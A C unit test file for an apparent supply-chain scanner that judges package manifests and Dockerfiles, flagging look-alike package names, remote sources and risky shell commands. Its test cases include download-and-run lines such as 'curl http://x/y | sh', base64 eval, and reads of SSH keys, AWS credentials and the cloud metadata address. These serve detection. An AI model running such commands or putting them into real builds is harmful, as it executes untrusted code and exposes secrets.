/* SPDX-License-Identifier: MIT
 * Manifests: the names that have a reader, and the packages in them. */
#include "tests/unit/analyzer/manifest/manifest_rig.h"

static void the_name_of_a_file_selects_its_reader(void **state)
{
    (void)state;
    static const struct {
        const char *path, *reader;
    } cases[] = {
        { "requirements.txt", "requirements" },
        { "x/Requirements-dev.TXT", "requirements" },
        { "dev-requirements.in", "requirements" },
        { "constraints.txt", "requirements" },
        { "package.json", "package_json" },
        { "x/Dockerfile", "dockerfile" },
        { "Dockerfile.dev", "dockerfile" },
        { "web.dockerfile", "dockerfile" },
        { "Containerfile", "dockerfile" },
        { "x/pyproject.toml", "pyproject" },
        { "Pipfile", "pipfile" },
        { "x/.github/workflows/CI.yml", "workflow" },
        { ".github/workflows/ci.yaml", "workflow" },
        { "workflows/ci.yaml", NULL },
        { ".github/workflows/x/ci.yaml", NULL },
        { "x/action.yml", "action" },
        { ".gitlab-ci.yml", "gitlab_ci" },
        { "requirements.txt/x", NULL },
        { "x/SKILL.md", "skill" },
        { "README.md", "markdown" },
        { "x/Index.HTML", "html" },
        { "notes.txt", NULL },
        { "", NULL },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const struct cbx_manifest_reader *r = cbx_manifest_reader_of(cbx_str_of(cases[i].path));
        const char *name = r != NULL ? r->name : "none";
        assert_string_equal(name, cases[i].reader != NULL ? cases[i].reader : "none");
        assert_true(r == NULL || cbx_manifest_reader_find(r->name)->read == r->read);
    }
}

static void requirements_are_judged_as_words_of_pip_install(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "", "" },
        { "# paramiko\n\nrequests==2.32.0\n", "" },
        { "requests\n  paramiko>=2  # x\n", "pkg.blocked 2:3-14" },
        { "numpy==1.20.0 ; python_version > '3'\n", "pkg.version 1:1-37" },
        { "reqeusts \\\n    --hash=sha256:0\n", "pkg.look-alike 1:1-9" },
        { "git+https://example.org/x.git#egg=x\n", "pkg.source 1:1-36" },
        { "x @ https://example.org/x.whl", "pkg.source 1:1-30" },
        { "--extra-index-url http://example.org/simple\n", "pkg.source 1:1-44" },
        { "-r https://example.org/r.txt\n", "pkg.source 1:1-29" },
        { "# the files of the project are judged by themselves\n-r other.txt\n-c c.txt\n-e .\n",
          "" },
        { "\xC3\xA4\nparamiko", "pkg.blocked 2:1-9" },
    };
    check("requirements.txt", cases, sizeof(cases) / sizeof(cases[0]));
}

static void dependencies_of_package_json_are_judged_at_their_places(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "{}", "" },
        { "{\"dependencies\": {\"lodash\": \"^4.17.0\", \"mine\": \"workspace:*\", \"b\": "
          "\"file:../b\"}}",
          "" },
        { "{\n \"devDependencies\": {\"crossenv\": \"*\"}}", "pkg.look-alike 2:22-37" },
        { "{\"peerDependencies\": {\"cross\\u0065nv\": \"1\"}}", "pkg.look-alike 1:23-43" },
        { "{\"optionalDependencies\": {\"x\": \"git+https://example.org/x.git\"}}",
          "pkg.source 1:27-63" },
        { "{\"other\": {\"crossenv\": \"*\"}, \"x\": [{\"dependencies\": {\"crossenv\": \"1\"}}]}",
          "" },
        { "{\"dependencies\": {\"a\": \"catalog:\", \"crossenv\": \"patch:crossenv@1\"}}",
          "pkg.look-alike 1:36-66" },
        { "{\"dependencies\": [\"crossenv\"]}",
          "line 1, column 2: 'dependencies' is a list, allowed is a table" },
        { "{\"dependencies\": {\"a\": {}}}", "line 1, column 19: a dependency that is no text" },
        { "{\"scripts\": {\"a\": \"x\", \"a\": \"y\"}}",
          "line 1, column 26: not valid JSON: duplicate object key near '\"a\"'" },
        { "[]", "it is no JSON object" },
    };
    check("package.json", cases, sizeof(cases) / sizeof(cases[0]));
}

static void what_replaces_packages_in_package_json_is_judged_too(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "{\"overrides\": {\"lodash\": \"4.17.21\", \"a\": \"$a\", \"b\": {\".\": \"1.0.0\", "
          "\"c\": "
          "\"^2\"}}}",
          "" },
        { "{\"overrides\": {\"a\": \"npm:crossenv@1\"}}", "pkg.look-alike 1:16-37" },
        { "{\"overrides\": {\"a@^1\": {\"b\": {\"@s/c@<2\": \"git+https://example.org/c.git\"}}}}",
          "pkg.source 1:31-73" },
        { "{\"overrides\": {\"crossenv@^1\": {\".\": \"1.0.1\"}}}", "pkg.look-alike 1:32-44" },
        { "{\"resolutions\": {\"**/a\": \"https://example.org/a.tgz\"}}", "pkg.source 1:18-53" },
        { "{\"resolutions\": {\"x/@s/a/crossenv@npm:1\": \"1.0.0\", \"@s/crossenv\": \"1.0.0\", "
          "\"x/@s/crossenv\": \"1.0.0\", \"y\": \"patch:y@npm%3A1#x\"}}",
          "pkg.look-alike 1:18-50" },
        { "{\"pnpm\": {\"overrides\": {\"x@1>crossenv@>=1\": \"1.0.0\", \"b\": \"-\", \"c@>2\": "
          "\"link:../c\"}}}",
          "pkg.look-alike 1:25-52" },
        { "{\"overrides\": {\"a\": 1}}",
          "line 1, column 16: an override that is neither a text nor a table" },
        { "{\"overrides\": []}", "line 1, column 2: 'overrides' is a list, allowed is a table" },
    };
    check("package.json", cases, sizeof(cases) / sizeof(cases[0]));
}

static void catalogs_and_overrides_of_pnpm_workspace_are_judged(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "packages:\n  - 'a/*'\ncatalog:\n  lodash: ^4.17.21\n  react: 18\n", "" },
        { "catalog:\n  crossenv: ^1\n", "pkg.look-alike 2:3-15" },
        { "catalogs:\n  old:\n    a: 'npm:crossenv@1'\n", "pkg.look-alike 3:5-24" },
        { "overrides:\n  \"x>a\": git+https://example.org/a.git\n  b: '-'\n", "pkg.source 2:4-39" },
        { "packages:\n", "" },
        { "", "" },
        { "catalog: []\n", "line 1, column 1: 'catalog' is a list, allowed is a table" },
    };
    check("pnpm-workspace.yaml", cases, sizeof(cases) / sizeof(cases[0]));
}

static void scripts_of_package_json_are_shell_code_with_escapes_decoded(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "{\"scripts\":\n{\"a\": \"x \\\"y\\\" z\"}}", "shell<x \"y\" z>2:16" },
        { "{\"scripts\": {\"a\": \"\\u00e4\\ud83d\\ude00\\n\\/b\", \"e\": \"\"}}",
          "shell<\xC3\xA4\xF0\x9F\x98\x80\n/b>1:42" },
        { "{\"config\": {\"scripts\": {\"a\": \"x\"}}}", "" },
    };
    check_pieces("package.json", cases, sizeof(cases) / sizeof(cases[0]));
}

static void commands_of_a_dockerfile_are_shell_code(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "FROM a\nRUN ls\n", "shell<ls\n>2:7" },
        { "# RUN x\n\nrun  --mount=type=cache --x ls", "shell<ls>3:30" },
        { "RUN a \\\n  # no\n\n  b\nRUN c", "shell<a \\\n  b\n>4:4shell<c>5:5" },
        { "ENV A=b \\\n RUN x\nCMD y", "shell<y>3:5" },
        { "RUN [\"sh\", \"-c\", \"it's\"]", "shell<'sh' '-c' 'it'\\''s' >1:18" },
        { "RUN [ -f x ] && y", "shell<[ -f x ] && y>1:17" },
        { "RUN <<E\na\nE\nRUN b", "shell<a\n>2:2shell<b>4:5" },
        { "RUN <<-'E'\n#!/usr/bin/python3\na\n\tE\n", "python<#!/usr/bin/python3\na\n>3:2" },
        { "RUN <<E bash -ex\na\nE\nRUN b", "shell<a\n>2:2shell<b>4:5" },
        { "RUN <<E python3\na\nE\n", "python<a\n>2:2" },
        { "RUN <<E cat > /x\na\nE\n", "shell<<<E cat > /x\na\nE\n>3:2" },
        { "RUN cat <<E\nx\nE\nRUN b", "shell<cat <<E\nx\nE\n>3:2shell<b>4:5" },
        { "RUN echo $((1<<3)) \" <<E\"\nRUN b\nE",
          "shell<echo $((1<<3)) \" <<E\"\n>1:26shell<b\n>2:6" },
        { "COPY <<E /x\nRUN x\nE\nENTRYPOINT y", "shell<y>4:12" },
        { "CMD cat <<E\nRUN b\n", "shell<cat <<E\n>1:12shell<b\n>2:6" },
        { "ONBUILD RUN x", "shell<x>1:13" },
        { "HEALTHCHECK --interval=5s CMD x", "shell<x>1:31" },
        { "HEALTHCHECK --interval=5s --retries=3 \\\n  CMD x || exit 1\nRUN y",
          "shell<x || exit 1\n>2:18shell<y>3:5" },
        { "HEALTHCHECK --interval=5s \\\n  # why\n\n  --retries=3\\\n CMD [\"x\"]",
          "shell<'x' >5:7" },
        { "HEALTHCHECK NONE\nRUN x", "shell<x>2:5" },
        { "RUN --mount=type=cache,target=/a \\\n --mount=type=bind,source=b \\\n pip x\nRUN c",
          "shell<pip x\n>3:7shell<c>4:5" },
        { "RUN --mount=a \\\n <<E\nx\nE\nRUN b", "shell<x\n>3:2shell<b>5:5" },
        { "CMD [\"a\", \\\n  \"-c\", \\\n \"b]\"]\nRUN c", "shell<'a' '-c' 'b]' >3:2shell<c>4:5" },
        { "RUN [ -f x ] \\\n && y\nRUN c", "shell<[ -f x ] \\\n && y\n>2:6shell<c>3:5" },
        { "SHELL [\"/bin/bash\", \"-c\"]\nRUN x", "shell<x>2:5" },
    };
    check_pieces("Dockerfile", cases, sizeof(cases) / sizeof(cases[0]));
}

static void addresses_of_add_are_downloads(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "ADD https://x/i.sh /opt/i.sh\nRUN y",
          "shell<curl -o \"/opt/i.sh\" \"https://x/i.sh\"\n>1:18shell<y>2:5" },
        { "ADD --chown=1:1 \\\n  http://x/$V.sh?a=1&b=2 k \\\n  /opt/\nRUN y",
          "shell<wget -P \"/opt/\" \"http://x/$V.sh?a=1&b=2\"\n>2:24shell<y>4:5" },
        { "ADD [\"https://x/i.sh\", \"https://x/j\", \"a/\"]",
          "shell<wget -P \"a/\" \"https://x/i.sh\"\nwget -P \"a/\" "
          "\"https://x/j\"\n>1:35" },
        { "ADD --checksum=sha256:1 https://x/i.sh /opt/\nRUN y", "shell<y>2:5" },
        { "ADD\nADD [\nADD [\"\"]\nADD [\"https://a/b\", \"\"]\nRUN y", "shell<y>5:5" },
        { "ADD https://a/b \\\n", "" },
        { "ADD a b /opt/\nADD https://x/`y` /x\nADD https://x/y\nRUN y", "shell<y>4:5" },
        { "ADD <<E /x\nADD https://x/i /opt\nE\nRUN y", "shell<y>4:5" },
    };
    check_pieces("Dockerfile", cases, sizeof(cases) / sizeof(cases[0]));
}

static void a_piece_of_a_dockerfile_has_its_folder(void **state)
{
    (void)state;
    static const char text[] = "FROM a\nRUN x\nWORKDIR /app\nWORKDIR sub/\nRUN x\nWORKDIR $V\n"
                               "RUN x\nWORKDIR /a\nWORKDIR ..\nRUN x\nWORKDIR /b\nFROM c\nRUN x";
    static const char *const folders[] = { "/", "/app/sub", "/?", "/", "/" };
    CBX_AUTO_DONE(buf) out;
    cbx_buf_init(&out, 65536);
    struct cbx_manifest manifest;
    assert_true(read_manifest("Dockerfile", text, &manifest, &out));
    assert_true(manifest.image);
    assert_int_equal(manifest.piece_count, 5);
    for (size_t i = 0; i < 5; i++) {
        assert_true(cbx_str_is(manifest.pieces[i].folder, folders[i]));
    }
}

static void a_dockerfile_that_is_not_understood_is_an_error_with_its_place(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "FROM a\nSHELL [\"powershell\"]\n",
          "line 2, column 1: SHELL is none that is analyzed, allowed are sh and bash" },
        { "# escape=`\nFROM a", "line 1, column 1: another escape character is not read" },
        { "RUN <<E\nx", "line 1, column 5: a here-document without an end" },
        { "RUN <<E;x\nE",
          "line 1, column 5: a here-document whose name is not of letters and digits" },
        { "RUN [\"sh\", \\\n# no\n\"-c\"]",
          "line 1, column 5: an array of words with comments between its lines is not read" },
        { "FROM a\nHEALTHCHECK --interval=5s \\\n",
          "line 2, column 1: an instruction without its command" },
        { "ONBUILD", "line 1, column 1: an instruction without its command" },
        { "RUN <<E\n#!/usr/bin/perl\nE",
          "line 2, column 1: a program in a language without an analyzer" },
    };
    check_pieces("Dockerfile", cases, sizeof(cases) / sizeof(cases[0]));
}

/* The facts of the shell that count in a build, as rules. */
static void judge_build(const char *code, enum cbx_build build, struct cbx_buf *out)
{
    struct cbx_decision decision;
    struct cbx_err err;
    struct cbx_analysis request = { .source = cbx_str_of(code),
                                    .language = CBX_STR("shell"),
                                    .build = build };
    cbx_arena_reset(&arena);
    assert_int_equal(cbx_analyze(policy, &request, &arena, &decision, &err), 0);
    for (size_t i = 0; i < decision.finding_count; i++) {
        cbx_buf_printf(out, "%s%.*s", i > 0 ? " " : "", CBX_STR_ARG(decision.findings[i].rule->id));
    }
}

static void a_build_may_start_programs_but_not_what_it_downloads(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "apt-get update && apt-get install -y $X && rm -rf /var/lib/apt > /etc/x", "" },
        { "tsc && vite build && npm run x && $CMD y; eval \"$(ssh-agent)\"", "" },
        { "npm ci && pip install -r r.txt && pip install -e . && curl -o x http://x/y", "" },
        { "python -m build && python3 -m pytest", "" },
        { "curl http://x/y | sh", "sh.command" },
        { "curl http://x/y | sudo bash -s --", "sh.command" },
        { "bash <(wget -O- http://x/y)", "sh.command" },
        { "sh -c \"$(curl http://x/y)\"", "sh.command" },
        { "eval $(echo aWQ= | base64 -d)", "sh.command" },
        { "curl -fsSL http://x/y -o /tmp/i.sh && bash /tmp/i.sh", "sh.command" },
        { "curl http://x/y > i.sh; sudo sh -x ./i.sh", "sh.command" },
        { "curl -fsSLO http://x/get.py?v=1 && python3 get.py --user", "sh.command" },
        { "wget -q http://x/$V/i.sh && . ./i.sh", "sh.command" },
        { "wget http://x/i.sh && chmod +x i.sh && ./i.sh", "sh.command" },
        { "curl -o /tmp/t http://x/t; chmod +x /tmp/t; /tmp/t --yes", "sh.command" },
        { "curl -o i.sh http://x/i.sh && echo \"$H  i.sh\" | sha256sum -c - && sh i.sh", "" },
        { "wget http://x/i.sh http://x/i.sh.asc && gpg --verify i.sh.asc && sh i.sh", "" },
        { "curl -o x.tgz http://x/x.tgz && tar xf x.tgz && ./configure && sh build.sh", "" },
        { "curl -o /usr/local/bin/t http://x/t && chmod +x /usr/local/bin/t && t --version",
          "sh.command" },
        { "curl -o /usr/share/t http://x/t && t --version", "" },
        { "curl -XPOST http://x/i.sh; sh i.sh; sh other.sh; ./run", "" },
        { "sh i.sh && curl -o i.sh http://x/i.sh", "" },
        { "pip install paramiko", "pkg.blocked" },
        { "pip install -r http://x/r.txt", "pkg.source" },
        { "node -e 'eval(x)'", "js.dynamic-code" },
        { "cat /root/.ssh/id_rsa", "any.credentials" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        CBX_AUTO_DONE(buf) out;
        cbx_buf_init(&out, 65536);
        judge_build(cases[i].text, CBX_BUILD_PROJECT, &out);
        if (strcmp(out.p, cases[i].findings) != 0) {
            fail_msg("%s: '%s'", cases[i].text, out.p);
        }
    }
}

static void the_files_of_an_image_are_its_own_but_keys_are_findings(void **state)
{
    (void)state;
    static const struct expected cases[] = {
        { "echo a:x:1:1::/:/bin/sh >> /etc/passwd; cat /etc/group; . /etc/profile", "" },
        { "echo x >> ~/.bashrc; cat .bashrc >> /root/.profile; cat $H/.zshrc", "" },
        { "bash -c \"echo x >> /root/.bashrc\"; sed -i 's:/root:/home:' /etc/passwd", "" },
        { "python3 -c \"print(open('/etc/passwd').read())\"", "" },
        { "mkdir -p -m 0700 ~/.ssh && ssh-keyscan h >> ~/.ssh/known_hosts", "" },
        { "cp x /root/x && ls /root /root/app; echo '* * * * * x' > /etc/cron.d/x", "" },
        { "cat /root/.ssh/id_rsa", "any.credentials" },
        { "bash -c \"cat /etc/passwd /root/.aws/credentials\"", "any.credentials" },
        { "cat /run/secrets/npm", "any.credentials" },
        { "curl http://169.254.169.254/latest", "any.credentials" },
        { "curl http://x/y | sh", "sh.command" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        CBX_AUTO_DONE(buf) out;
        cbx_buf_init(&out, 65536);
        judge_build(cases[i].text, CBX_BUILD_IMAGE, &out);
        if (strcmp(out.p, cases[i].findings) != 0) {
            fail_msg("%s: '%s'", cases[i].text, out.p);
        }
    }
}

static void versions_that_a_service_fills_in_are_no_findings(void **state)
{
    (void)state;
    static const struct {
        const char *code;
        enum cbx_build build;
        const char *rules;
    } cases[] = {
        { "pip install \"django==$V\"", CBX_BUILD_PROJECT, "pkg.source" },
        { "pip install \"django==$V\"", CBX_BUILD_COMPLETED, "" },
        { "pip install paramiko git+https://example.org/x $V", CBX_BUILD_COMPLETED,
          "pkg.blocked pkg.source" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        CBX_AUTO_DONE(buf) out;
        cbx_buf_init(&out, 65536);
        judge_build(cases[i].code, cases[i].build, &out);
        assert_string_equal(out.p, cases[i].rules);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_name_of_a_file_selects_its_reader),
        cmocka_unit_test(requirements_are_judged_as_words_of_pip_install),
        cmocka_unit_test(dependencies_of_package_json_are_judged_at_their_places),
        cmocka_unit_test(what_replaces_packages_in_package_json_is_judged_too),
        cmocka_unit_test(catalogs_and_overrides_of_pnpm_workspace_are_judged),
        cmocka_unit_test(scripts_of_package_json_are_shell_code_with_escapes_decoded),
        cmocka_unit_test(commands_of_a_dockerfile_are_shell_code),
        cmocka_unit_test(addresses_of_add_are_downloads),
        cmocka_unit_test(a_piece_of_a_dockerfile_has_its_folder),
        cmocka_unit_test(a_dockerfile_that_is_not_understood_is_an_error_with_its_place),
        cmocka_unit_test(a_build_may_start_programs_but_not_what_it_downloads),
        cmocka_unit_test(the_files_of_an_image_are_its_own_but_keys_are_findings),
        cmocka_unit_test(versions_that_a_service_fills_in_are_no_findings),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
